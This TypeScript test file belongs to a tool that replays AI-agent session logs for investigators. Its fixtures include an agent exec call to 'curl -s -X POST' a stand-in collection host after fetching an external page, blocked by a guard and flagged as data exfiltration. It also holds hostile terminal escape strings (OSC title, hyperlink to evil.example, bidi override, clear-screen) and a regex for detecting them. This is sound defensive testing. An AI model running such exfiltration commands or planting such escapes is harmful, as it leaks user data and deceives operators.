// The session list and the step-by-step replay are printed on an investigator's terminal, and
// every string in them came from an agent's logs: prompts, tool arguments and results, titles,
// even session ids and blob names. Whatever they carry (ANSI colour, OSC title and hyperlink
// sequences, bidi overrides, C1 controls, carriage returns) must arrive as inert text.
import test from "ava";
import { renderSessionList, renderSessionReplay } from "../src/replay/session-replay-text.js";
import type { SessionStep, SessionSummary, StepPin } from "../src/replay/replay-types.js";

/** Every character a terminal acts on, or that reorders what it shows. */
// eslint-disable-next-line no-control-regex, no-misleading-character-class
const ACTIVE = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200b-\u200f\u202a-\u202e\u2028\u2029\u2060-\u2069\ufeff]/;

const HOSTILE = [
  "\u001b[31mred\u001b[0m", // SGR colour
  "\u001b]0;pwned title\u0007", // OSC window title
  "\u001b]8;;https://evil.example/\u001b\\click\u001b]8;;\u001b\\", // OSC 8 hyperlink
  "txt.\u202eexe", // right-to-left override
  "\u2066isolated\u2069", // bidi isolate
  "\u009b2J", // C1 CSI: clear screen
  "\u0085next line", // C1 NEL
  "safe\roverwritten", // carriage return
].join(" ");

function summary(over: Partial<SessionSummary> = {}): SessionSummary {
  return {
    sessionId: "s-1",
    user: "alice",
    host: "vm-alice",
    agentId: "main",
    started: "2026-11-25T09:55:54.037Z",
    ended: "2026-11-25T09:56:11.037Z",
    steps: 3,
    toolCalls: 2,
    tools: ["web_fetch", "exec"],
    firstPrompt: "summarize this page",
    hasTranscript: true,
    blobs: 1,
    days: 1,
    worst: "high",
    findings: 1,
    ...over,
  };
}

function step(stepNo: number, over: Partial<SessionStep> = {}): SessionStep {
  return {
    sessionId: "s-1",
    stepNo,
    time: `2026-11-25T09:55:5${stepNo}.000Z`,
    kind: "tool",
    source: "transcript",
    runId: null,
    tool: null,
    callId: null,
    arguments: null,
    status: null,
    result: null,
    durationMs: null,
    decision: null,
    text: null,
    blob: "oclog/alice/t.jsonl",
    line: stepNo,
    ...over,
  };
}

const pin: StepPin = {
  finding: 0,
  detectionId: "chain-exfil",
  title: "Session that took in external content sent data out",
  severity: "high",
  row: 0,
  role: "evidence",
  sessionId: "s-1",
  stepNo: 3,
  blob: "oclog/alice/t.jsonl",
  line: 3,
};

const steps = [
  step(1, { kind: "prompt", text: "summarize https://ai-tips.example.net/guide" }),
  step(2, { tool: "web_fetch", arguments: '{"url":"https://ai-tips.example.net/guide"}', status: "success", durationMs: 2000, result: "Ten tips" }),
  step(3, { tool: "exec", arguments: '{"command":"curl -s -X POST https://collect.example.net/u"}', status: "blocked", decision: "refused by a guard", durationMs: 12 }),
];

test("the replay shows each step in order with its tool, arguments, outcome and the finding pinned to it", (t) => {
  const text = renderSessionReplay({ session: summary(), steps, pins: [pin] });
  const lines = text.split("\n");
  const at = (needle: string) => lines.findIndex((l) => l.includes(needle));
  t.true(at("#1 ") < at("#2 ") && at("#2 ") < at("#3 "));
  t.regex(lines[at("#2 ")]!, /tool {2}web_fetch \{"url":"https:\/\/ai-tips\.example\.net\/guide"\}/);
  t.regex(lines[at("#3 ")]!, /exec \{"command":"curl -s -X POST/);
  t.regex(text, /status: blocked · 12 ms · decision: refused by a guard/);
  t.regex(text, /result: Ten tips/);
  // The pin sits under its step (3), after the step's own lines, with severity, title and evidence ref.
  const pinLine = at("! HIGH");
  t.true(pinLine > at("#3 "));
  t.regex(lines[pinLine]!, /evidence of Session that took in external content sent data out {2}\[oclog\/alice\/t\.jsonl:3\]/);
  t.regex(lines[0]!, /Session s-1 {2}agent main {2}alice@vm-alice/);
});

test("a call seen only in the gateway log says its arguments were not recorded, and a session without transcript says so", (t) => {
  const text = renderSessionReplay({
    session: summary({ hasTranscript: false }),
    steps: [step(1, { tool: "exec", source: "gateway-log", status: "success" })],
    pins: [],
  });
  t.regex(text, /exec \(arguments not recorded\)/);
  t.regex(text, /from the gateway log/);
  t.regex(text, /No transcript/);
});

test("the list keeps the order given (worst first), one row per session, with the first prompt clipped", (t) => {
  const text = renderSessionList([summary({ sessionId: "bad", worst: "critical", findings: 3, firstPrompt: "x".repeat(500) }), summary({ sessionId: "quiet", worst: null, findings: 0, hasTranscript: false })]);
  const lines = text.split("\n");
  t.regex(lines[0]!, /^SESSION +START +WORST +STEPS +AGENT +USER@HOST +TOOLS +FIRST PROMPT$/);
  t.regex(lines[2]!, /^bad +2026-11-25 09:55:54Z +critical \(3\) +3 +main +alice@vm-alice +web_fetch,exec +x+…$/);
  t.true(lines[2]!.length < 300);
  t.regex(lines[3]!, /^quiet .* - .*\(no transcript\)$/);
  t.regex(lines.at(-1)!, /2 sessions; replay one with: oclog session <case-dir> <session-id>/);
  t.is(renderSessionList([]), "No sessions in this case.");
});

test("hostile text in every log-derived field reaches neither view raw, and its visible text stays", (t) => {
  const session = summary({ sessionId: `s-1${HOSTILE}`, user: HOSTILE, host: HOSTILE, agentId: HOSTILE, tools: [HOSTILE], firstPrompt: HOSTILE });
  const hostileSteps = [
    step(1, { kind: "prompt", text: HOSTILE }),
    step(2, { tool: HOSTILE, arguments: JSON.stringify({ command: HOSTILE }), status: HOSTILE, result: HOSTILE, decision: HOSTILE }),
  ];
  const hostilePin: StepPin = { ...pin, stepNo: 2, title: HOSTILE, blob: HOSTILE };
  for (const text of [renderSessionList([session]), renderSessionReplay({ session, steps: hostileSteps, pins: [hostilePin] })]) {
    t.notRegex(text, ACTIVE, text);
    t.false(text.includes("\u001b"));
    t.regex(text, /red/);
    t.regex(text, /isolated/);
  }
});
